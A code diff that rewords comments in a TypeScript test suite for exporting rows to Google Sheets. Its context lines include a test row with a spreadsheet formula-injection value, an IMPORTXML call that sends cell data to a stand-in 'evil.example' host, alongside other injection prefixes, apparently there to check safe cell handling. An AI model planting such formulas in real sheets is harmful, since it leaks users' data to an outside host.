@@ -90,7 +90,7 @@ const facebookAccounts = async (person: Person): Promise<string[]> => {
 
 const serialDay = (day: string): number => (Date.parse(`${day}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000;
 
-/** Empty cells as empty texts, and none at the end of a row: a sheet keeps neither apart. */
+/** Empty cells as empty texts, and none at the end of a row: a sheet does not distinguish them. */
 const filledCells = (cells: readonly unknown[]): unknown[] => {
   const lastFilled = cells.findLastIndex((value) => value !== null && value !== '');
   return cells.slice(0, lastFilled + 1).map((value) => value ?? '');
@@ -222,7 +222,7 @@ describe('posted rows', () => {
       ['=IMPORTXML("http://evil.example/?"&A1)', '+49170555', '120210987654321098', '@cmd', '007', 12.5, true],
       ['-1+1', '', '1', 'NUL \ufffd 😀', '1/2', -3, false, '', 0],
     ]);
-    // The lead screens have no platform, so the end is told by an event of its own.
+    // The lead screens have no platform, so a separate event reports the end.
     expect(await nextEvent(socket, 'list_export_complete')).toMatchObject({ url, error: null, exportId: body.data.id });
     expect((await notificationsOf(person)).map(({ event }) => event)).toEqual([
       'google_connected',
@@ -253,7 +253,7 @@ describe('posted rows', () => {
     const rows = Array.from({ length: 12_001 }, (_, index) => ({ index, id: `00${index}`, text: `row ${index}` }));
     await orderFaults(
       api.sandbox,
-      // The look for an earlier file passes, then the answer to the create is lost.
+      // The search for an earlier file succeeds, then the answer to the create call is lost.
       { provider: 'google', path: '/drive/v3/files', kind: 'slow', delayMs: 0 },
       { provider: 'google', path: '/drive/v3/files', kind: 'timeout-after-commit' },
       { provider: 'google', path: 'values:batchUpdate', kind: '429', retryAfterSeconds: 1 },
